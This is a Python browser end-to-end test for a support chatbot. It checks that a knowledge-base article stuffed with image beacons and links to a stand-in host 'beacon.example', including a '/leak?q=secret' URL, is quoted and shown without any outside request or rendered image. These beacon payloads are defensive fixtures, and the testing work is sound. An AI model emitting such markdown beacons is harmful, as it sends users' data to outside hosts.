"""Markdown that cannot phone home, in a real browser: an article full of image beacons, links
with titles, bare and upper-case URLs and a title with Markdown in it is ingested, quoted in an
extractive answer and shown on the staff KB page. No request leaves loopback and no image is
rendered; the article's table still renders as a table.

The streamed LLM path is covered at the unit level with a scripted stream
(tests/bot/test_streaming.py): the loopback model cannot be made to write a beacon on demand.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator

import pytest

from bot.config import Settings
from ingest import cli
from tests.conftest import FIXTURES
from tests.e2e.browser import log_in, new_page, running_stack, shot

BEACON = "beacon.example"
ARTICLE = f"""---
id: gift-cards
title: "Gift cards ![t](http://{BEACON}/title.png) <img src=http://{BEACON}/title2.png>"
intents: [billing]
url: https://help.fixture.example/gift-cards
verified_by: Test Verifier
verified_at: 2026-01-10
review_by: 2099-12-31
---
Gift cards are valid for 24 months from the day you buy them ![gift [note] sample](http://{BEACON}/leak?q=secret).

Gift cards are valid in every shop ![ref image][pixel] and you can check the balance
[here](http://{BEACON}/x 'title') or [there](http://{BEACON}/y (title)), see HTTP://{BEACON.upper()}/upper
or www.{BEACON}, or &#33;&#91;e&#93;(http://{BEACON}/entity.png).

<img src="http://{BEACON}/html.png" alt="a gift card">

| Card | Gift cards are valid for |
|---|---|
| Gift card ![c](http://{BEACON}/cell.png) | 24 months |

[pixel]: http://{BEACON}/ref.png
"""


@pytest.fixture(scope="module")
def beacon_stack(settings_factory, tmp_path_factory) -> Iterator[tuple[str, Settings]]:  # type: ignore[no-untyped-def]
    home = tmp_path_factory.mktemp("e2e-markdown")
    articles = home / "articles"
    shutil.copytree(FIXTURES / "kb" / "articles", articles)
    (articles / "gift-cards.md").write_text(ARTICLE)
    settings = settings_factory(home / "data", kb_dir=articles)
    assert cli.main([str(articles), "--quiet"], settings) == 0
    with running_stack(settings, home) as app_url:
        yield app_url, settings


def _no_images(page) -> None:  # type: ignore[no-untyped-def]
    assert page.locator("[data-testid=stMarkdownContainer] img").count() == 0
    assert page.locator("[data-testid=stMainBlockContainer] img").count() == 0


def test_an_extractive_answer_from_an_article_of_beacons_fetches_nothing(beacon_stack, browser) -> None:  # type: ignore[no-untyped-def]
    app_url, _ = beacon_stack
    blocked: list[str] = []
    page = new_page(browser, blocked)
    log_in(page, app_url, "carol")
    page.get_by_role("button", name="I understand").click()
    page.locator("[data-testid=stSelectbox]").first.click()
    page.get_by_role("option", name="Billing and payments").click()
    chat = page.locator("[data-testid=stChatInputTextArea]")
    chat.fill("how long are gift cards valid?")
    chat.press("Enter")
    page.get_by_text("Sources").wait_for()
    answer = page.locator("[data-testid=stChatMessage]").last
    answer.get_by_text("24 months").first.wait_for()
    source = page.get_by_role("link", name="Gift cards")
    assert source.get_attribute("href") == "https://help.fixture.example/gift-cards"
    shot(page, "markdown-safety-answer")
    _no_images(page)
    assert blocked == []


def test_the_staff_kb_page_shows_the_article_without_fetching(beacon_stack, browser) -> None:  # type: ignore[no-untyped-def]
    app_url, _ = beacon_stack
    blocked: list[str] = []
    page = new_page(browser, blocked)
    log_in(page, app_url, "staff-anna")
    page.get_by_role("button", name="I understand").click()
    page.goto(f"{app_url}/staff-kb")
    page.get_by_text("Knowledge base loaded").wait_for()
    question = page.get_by_label("Question")
    question.fill("how long are gift cards valid in every shop?")
    question.press("Enter")
    page.get_by_text("score ").first.wait_for()
    link = page.get_by_role("link", name="Gift cards").first
    assert link.get_attribute("href") == "https://help.fixture.example/gift-cards"
    page.get_by_text("Gift cards are valid in every shop").first.wait_for()
    shot(page, "markdown-safety-staff-kb")
    _no_images(page)
    assert blocked == []
